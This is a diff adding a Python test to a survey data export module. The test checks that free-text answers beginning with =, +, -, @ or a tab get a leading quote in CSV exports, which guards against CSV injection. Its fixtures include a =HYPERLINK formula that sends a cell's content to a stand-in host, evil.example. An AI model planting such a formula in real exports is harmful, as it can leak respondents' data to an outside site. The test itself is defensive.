@@ -250,6 +250,67 @@ def _extract(archive: zipfile.ZipFile, name: str) -> str:
     return archive.extract(name, folder)
 
 
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"se her")', "-2+3", "@SUM(A1:A9)", "+45 12 34 56 78",
+            "\t=1+1"]
+FREE_TEXTS = """
+select a.response_id, a.item_id, a.dimension, v.questionnaire_id, a.text_value
+  from answer a join questionnaire_item qi using (questionnaire_version_id, item_id, dimension)
+  join questionnaire_version v on v.id = a.questionnaire_version_id
+  join response r on r.id = a.response_id join wave w on w.id = r.wave_id
+ where w.evaluation_id = $1 and qi.item_type = 'free_text'
+ order by a.response_id, a.item_id
+"""
+
+
+async def test_free_text_a_spreadsheet_would_run_has_a_quote_in_front_in_csv_only(demo, pool, tmp_path):
+    """OWASP "CSV Injection": a citizen's text beginning with =, +, -, @ or a tab opens
+    in Excel as a formula (=HYPERLINK can send the row to another site). In CSV files,
+    long and wide, such text has a ' in front and the codebook says so; every other text,
+    and every text in Parquet, is as the citizen wrote it."""
+    async with pool.acquire() as conn:
+        picked = (await conn.fetch(FREE_TEXTS, demo))[:len(FORMULAS)]
+        assert len(picked) == len(FORMULAS)
+        change = "update answer set text_value = $1 where response_id = $2 and item_id = $3 and dimension = $4"
+        try:
+            for row, text in zip(picked, FORMULAS):
+                await conn.execute(change, text, row["response_id"], row["item_id"], row["dimension"])
+            stored = {(r["response_id"], r["item_id"]): (r["questionnaire_id"], r["text_value"])
+                      for r in await conn.fetch(FREE_TEXTS, demo)}
+            for fmt in ("csv", "parquet"):
+                for shape in ("lang", "bred"):
+                    await datafiles.export_data(conn, demo, tmp_path / f"{shape}_{fmt}.{fmt}", fmt=fmt,  # type: ignore
+                                                wide=shape == "bred", free_text=True)
+        finally:
+            for row in picked:
+                await conn.execute(change, row["text_value"], row["response_id"], row["item_id"], row["dimension"])
+
+    def as_in_csv(text: str) -> str:
+        return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text
+
+    def read(path: Path) -> pd.DataFrame:
+        return pd.read_csv(path, dtype=str, keep_default_na=False) if path.suffix == ".csv" else pd.read_parquet(path)
+
+    for fmt, written in (("csv", as_in_csv), ("parquet", lambda text: text)):
+        long = read(tmp_path / f"lang_{fmt}.{fmt}")
+        cells = long[long["item_id"].isin({item for _, item in stored}) & (long["text_value"].fillna("") != "")]
+        found = {(int(r.response_id), r.item_id): r.text_value for r in cells.itertuples()}
+        assert found == {key: written(text) for key, (_, text) in stored.items()}, fmt
+        wide = read(tmp_path / f"bred_{fmt}.{fmt}")
+        wide = wide.set_index(wide["response_id"].astype(int))
+        book = read(tmp_path / f"bred_{fmt}_codebook.csv")
+        variable = {(r.questionnaire_id, r.item_id): r.variable
+                    for r in book[(book["kind"] == "text") & (book["item_id"] != "")].itertuples()}
+        for (response, item), (questionnaire, text) in stored.items():
+            assert wide.loc[response, variable[questionnaire, item]] == written(text), (fmt, response, item)
+        label = read(tmp_path / f"lang_{fmt}_codebook.csv").set_index("variable").loc["text_value", "label_en"]
+        assert ("(in CSV: ' before text that begins with = + - @" in label) == (fmt == "csv"), label
+    hyperlink = read(tmp_path / "lang_csv.csv").set_index(["response_id", "item_id"]).loc[
+        (str(picked[0]["response_id"]), picked[0]["item_id"]), "text_value"]
+    assert hyperlink == "'" + FORMULAS[0]
+    assert read(tmp_path / "lang_parquet.parquet").set_index(["response_id", "item_id"]).loc[
+        (picked[0]["response_id"], picked[0]["item_id"]), "text_value"] == FORMULAS[0]
+
+
 async def test_a_response_without_an_exported_cell_still_has_its_row_in_the_wide_file(demo, pool, tmp_path):
     """One row per response, also for one whose only answers are left out (here: none at
     all, as a paper form sent back empty would be). Last in this module: it adds a response."""
